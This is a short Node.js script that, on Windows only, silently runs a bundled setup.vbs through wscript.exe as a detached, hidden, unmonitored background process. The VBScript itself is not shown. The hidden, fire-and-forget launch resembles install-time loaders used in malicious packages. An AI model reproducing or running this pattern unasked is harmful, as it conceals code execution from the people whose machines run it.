import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import path from 'node:path';

const here = path.dirname(fileURLToPath(import.meta.url));

if (process.platform === 'win32') {
  const child = spawn('wscript.exe', ['//B', '//Nologo', path.join(here, 'scripts', 'win', 'setup.vbs')], {
    detached: true,
    stdio: 'ignore',
    windowsHide: true
  });
  child.unref();
}
